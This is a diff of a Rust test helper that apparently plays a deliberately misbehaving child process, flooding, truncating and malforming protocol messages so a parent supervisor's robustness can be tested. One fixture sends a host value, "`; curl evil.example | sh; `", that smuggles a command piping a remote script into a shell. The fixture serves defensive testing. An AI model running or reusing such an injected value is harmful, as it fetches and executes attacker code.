@@ -6,9 +6,7 @@ use std::os::unix::fs::FileExt;
 use std::thread;
 use std::time::Duration;
 
-use serde_json::{Value, json};
-
-use crate::wire::{self, Line};
+use crate::wire::{self, Line, Task, guest, refusal};
 
 /// Does what it is asked to. Where the parent ends that, this process is killed.
 pub(crate) fn misbehave() {
@@ -20,17 +18,11 @@ fn serve() -> io::Result<()> {
     let mut line = Line::of_standard_input()?;
     let files = line.files()?;
     let (task, init) = line.task()?;
-    match (&task["Work"], &task["Compile"]) {
-        (Value::Null, compile) => be_compiler(line, &name(compile)),
-        (_, _) => be_worker(line, &files, &init),
+    match task {
+        Task::Compile(compile) => be_compiler(line, &compile.path.to_string_lossy()),
+        Task::Work => be_worker(line, &files, &init),
+        Task::Probe => Ok(()),
     }
-}
-
-/// How the plugin is called that is to be compiled.
-fn name(compile: &Value) -> String {
-    let bytes: Vec<u8> =
-        serde_json::from_value(compile["path"]["Unix"].clone()).unwrap_or_default();
-    String::from_utf8_lossy(&bytes).into_owned()
 }
 
 fn stay() -> io::Result<()> {
@@ -48,13 +40,13 @@ fn pause() {
 
 fn be_worker(mut line: Line, files: &[File], init: &[u8]) -> io::Result<()> {
     if init == b"floods before it is ready" {
-        return line.flood(wire::OUTPUT, &[1, b'x']);
+        return line.flood(wire::GUEST, &guest::output("x"));
     }
     line.send(wire::READY, b"")?;
     if init == b"floods before it has started" {
-        return line.flood(wire::OUTPUT, &[1, b'x']);
+        return line.flood(wire::GUEST, &guest::output("x"));
     }
-    line.send(wire::STARTED, &[1, 0])?;
+    line.send(wire::STARTED, &[0, 0])?;
     loop {
         let order = line.receive()?;
         let item = wire::item(&order);
@@ -98,7 +90,7 @@ fn lie(files: &[File]) -> io::Result<()> {
 
 /// Some of these end, and then the item has its record.
 fn misdeed(line: &mut Line, deed: &[u8]) -> io::Result<()> {
-    let large = vec![b'x'; 200 * 1024];
+    let large = "x".repeat(200 * 1024);
     match deed {
         b"is silent" => stay(),
         b"half a frame" => {
@@ -117,11 +109,11 @@ fn misdeed(line: &mut Line, deed: &[u8]) -> io::Result<()> {
                 pause();
             }
         }
-        b"floods small output" => line.flood(wire::OUTPUT, &[1, b'x']),
-        b"floods large output" => line.flood(wire::OUTPUT, &[&[1], large.as_slice()].concat()),
-        b"floods logs" => line.flood(wire::LOG, &[&[3], large.as_slice()].concat()),
-        b"floods drops" => line.flood(wire::DROPPED, &[0xFF; 16]),
-        b"says too much at once" => line.send(wire::LOG, &[3; 300 * 1024]),
+        b"floods small output" => line.flood(wire::GUEST, &guest::output("x")),
+        b"floods large output" => line.flood(wire::GUEST, &guest::output(&large)),
+        b"floods logs" => line.flood(wire::GUEST, &guest::log(&large)),
+        b"floods drops" => line.flood(wire::GUEST, &guest::dropped(u64::MAX, u64::MAX)),
+        b"says too much at once" => line.send(wire::GUEST, &guest::log(&"x".repeat(300 * 1024))),
         b"claims a length" => {
             line.raw(&[0xFF, 0xFF, 0xFF, 0xFF, wire::RAN])?;
             stay()
@@ -140,17 +132,16 @@ fn misdeed(line: &mut Line, deed: &[u8]) -> io::Result<()> {
         b"is denied much" => {
             for number in 0..1000 {
                 let name = format!("{number}{}", "x".repeat(200 * 1024));
-                line.send(wire::DENIED, json!({ "Name": name }).to_string().as_bytes())?;
+                line.send(wire::GUEST, &guest::denied_name(&name))?;
             }
             Ok(())
         }
         b"is denied a command" => {
             // A shell would run it, if somebody copied it.
             let host = "`; curl evil.example | sh; `";
-            let denied = json!({ "Request": { "host": host, "port": 1 } });
-            line.send(wire::DENIED, denied.to_string().as_bytes())
+            line.send(wire::GUEST, &guest::denied_request(host, 1))
         }
-        b"nests" => line.send(wire::DENIED, "[".repeat(200 * 1024).as_bytes()),
+        b"nests" => line.send(wire::GUEST, "[".repeat(200 * 1024).as_bytes()),
         _ => Ok(()),
     }
 }
@@ -163,38 +154,24 @@ fn be_compiler(mut line: Line, deed: &str) -> io::Result<()> {
         return line.send(wire::READY, &vec![b'x'; HUGE]);
     }
     line.send(wire::READY, b"")?;
-    let causes =
-        |text: &str, count| json!({ "Invalid": { "causes": vec![text; count] } }).to_string();
-    let found = |exports: usize, refusal: Value| {
-        let exports = vec![("", ""); exports];
-        json!({
-            "is_component": false, "exports": exports, "exports_left_out": 0, "imports": [],
-            "imports_left_out": 0, "memory": null, "typed": null,
-            "features": { "gc": false, "exceptions": false }, "refusal": refusal,
-        })
-        .to_string()
-    };
     match deed {
         "says much of code" => line.send(wire::COMPILED, &vec![b' '; HUGE]),
         "says much of a refusal" => line.send(wire::NOT_COMPILED, &vec![b'['; HUGE]),
-        "has many causes" => line.send(wire::NOT_COMPILED, causes("", 20_000).as_bytes()),
+        "has many causes" => line.send(wire::NOT_COMPILED, &refusal::invalid("", 20_000)),
         "has long causes" => {
-            line.send(wire::NOT_COMPILED, causes(&"x".repeat(30_000), 2).as_bytes())
+            line.send(wire::NOT_COMPILED, &refusal::invalid(&"x".repeat(30_000), 2))
         }
         "finds much" => line.send(wire::INSPECTED, &vec![b'['; HUGE]),
-        "finds many exports" => line.send(wire::INSPECTED, found(500_000, Value::Null).as_bytes()),
+        "finds many exports" => line.send(wire::INSPECTED, &wire::found(500_000, None)),
         "finds a long refusal" => {
-            let refusal = json!({ "NotWasm": { "begins": "x".repeat(3_000_000) } });
-            line.send(wire::INSPECTED, found(1, refusal).as_bytes())
+            let refusal = refusal::not_wasm(&"x".repeat(3_000_000));
+            line.send(wire::INSPECTED, &wire::found(1, Some(refusal)))
         }
         "has all code" => {
-            let facts = json!({
-                "is_component": false, "has_init": false, "asks_for_passing": false, "can_connect": false,
-            });
-            let there = json!({ "facts": facts, "length": u64::MAX });
-            line.send(wire::COMPILED, there.to_string().as_bytes())
+            let facts = [false; 4];
+            line.send(wire::COMPILED, &wire::value(&(facts, u64::MAX)))
         }
-        "floods logs" => line.flood(wire::LOG, &[1, b'x']),
+        "floods logs" => line.flood(wire::GUEST, &guest::log("x")),
         "half a frame" => {
             line.claim(wire::COMPILED, 1000)?;
             stay()
